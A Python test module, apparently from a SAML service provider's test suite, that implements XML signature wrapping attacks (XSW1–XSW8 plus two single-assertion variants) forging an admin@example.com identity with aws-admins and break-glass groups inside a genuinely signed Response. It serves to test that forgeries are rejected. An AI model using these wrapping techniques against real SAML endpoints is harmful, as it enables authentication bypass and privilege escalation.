"""XML signature wrapping (XSW1–XSW8, as SAML Raider names them) applied to a genuine signed Response.

Each function takes the parsed Response (lxml) that the IdP signed and rewrites it in place so
that an *evil* assertion (NameID and UPN ``admin@example.com``, groups ``aws-admins`` and
``break-glass``) sits where a careless SP reads, while the original signed node survives
somewhere the signature check may still find it.

- XSW1: the Response is changed (new ID, evil assertion); an unsigned clone of the original
  Response goes inside its Signature element (the reference still resolves to the clone).
- XSW2: the same, the clone placed before the Signature (detached signature).
- XSW3: an evil assertion (new ID) before the original signed assertion.
- XSW4: an evil assertion that contains the original signed assertion.
- XSW5: the signed assertion's content changed in place; an unsigned copy of the original at the end.
- XSW6: changed in place; the unsigned original copy inside the assertion's Signature element.
- XSW7: the original signed assertion moved into samlp:Extensions; the evil assertion in its place.
- XSW8: changed in place; the unsigned original copy inside a ds:Object of the Signature.

Two more keep a single assertion, so that counting assertions is not what stops them:
``stolen-signature`` and ``only-in-extensions``.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from tests.upstream.saml_peer import DS, GROUPS, NS, SAML, SAMLP, UPN

EVIL_USER = "admin@example.com"
EVIL_GROUPS = ("aws-admins", "break-glass")


def _strip_signature(node: etree._Element) -> etree._Element:
    for sig in node.findall("ds:Signature", NS):
        node.remove(sig)
    return node


def _make_evil(assertion: etree._Element) -> None:
    """Rewrite an assertion's identity in place (its ID and Signature untouched)."""
    assertion.find("saml:Subject/saml:NameID", NS).text = EVIL_USER
    for attribute in assertion.iter(f"{{{SAML}}}Attribute"):
        values = attribute.findall("saml:AttributeValue", NS)
        if attribute.get("Name") == UPN:
            values[0].text = EVIL_USER
        elif attribute.get("Name") == GROUPS:
            for extra in values[1:]:
                attribute.remove(extra)
            values[0].text = EVIL_GROUPS[0]
            more = deepcopy(values[0])
            more.text = EVIL_GROUPS[1]
            attribute.append(more)


def evil_copy(assertion: etree._Element, new_id: str = "_evil-assertion") -> etree._Element:
    evil = _strip_signature(deepcopy(assertion))
    evil.set("ID", new_id)
    _make_evil(evil)
    return evil


def _assertion(root: etree._Element) -> etree._Element:
    return root.find("saml:Assertion", NS)


def _evil_response(root: etree._Element) -> tuple[etree._Element, etree._Element]:
    """XSW1/2: the Response re-IDed around an evil Assertion; returns (its Signature, the
    signed original Response without its signature) for the caller to hide the clone."""
    clone = _strip_signature(deepcopy(root))
    signature = root.find("ds:Signature", NS)
    root.set("ID", "_evil-response")
    original = _assertion(root)
    root.replace(original, evil_copy(original))
    return signature, clone


def xsw1(root: etree._Element) -> None:
    signature, clone = _evil_response(root)
    signature.append(clone)


def xsw2(root: etree._Element) -> None:
    signature, clone = _evil_response(root)
    signature.addprevious(clone)


def xsw3(root: etree._Element) -> None:
    original = _assertion(root)
    original.addprevious(evil_copy(original))


def xsw4(root: etree._Element) -> None:
    original = _assertion(root)
    evil = evil_copy(original)
    root.replace(original, evil)
    evil.append(original)


def xsw5(root: etree._Element) -> None:
    original = _assertion(root)
    copy = _strip_signature(deepcopy(original))
    _make_evil(original)
    root.append(copy)


def xsw6(root: etree._Element) -> None:
    original = _assertion(root)
    copy = _strip_signature(deepcopy(original))
    _make_evil(original)
    original.find("ds:Signature", NS).append(copy)


def xsw7(root: etree._Element) -> None:
    original = _assertion(root)
    evil = evil_copy(original)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    root.replace(original, evil)
    root.find("saml:Issuer", NS).addnext(extensions)
    extensions.append(original)


def xsw8(root: etree._Element) -> None:
    original = _assertion(root)
    copy = _strip_signature(deepcopy(original))
    _make_evil(original)
    obj = etree.SubElement(original.find("ds:Signature", NS), f"{{{DS}}}Object")
    obj.append(copy)


def stolen_signature(root: etree._Element) -> None:
    """One assertion only (so counting assertions does not catch it): the evil one, carrying the
    original's Signature, whose Reference still names the original's ID."""
    original = _assertion(root)
    evil = evil_copy(original)
    evil.find("saml:Issuer", NS).addnext(deepcopy(original.find("ds:Signature", NS)))
    root.replace(original, evil)


def only_in_extensions(root: etree._Element) -> None:
    """One assertion only, the signed original, moved into samlp:Extensions (nothing where the SP reads)."""
    original = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    root.find("saml:Issuer", NS).addnext(extensions)
    extensions.append(original)


VARIANTS: dict[str, Callable[[etree._Element], None]] = {
    "XSW1": xsw1, "XSW2": xsw2, "XSW3": xsw3, "XSW4": xsw4,
    "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8,
    "stolen-signature": stolen_signature, "only-in-extensions": only_in_extensions,
}
RESPONSE_LEVEL = ("XSW1", "XSW2")
"""These wrap the Response's own signature: they need a signed Response."""
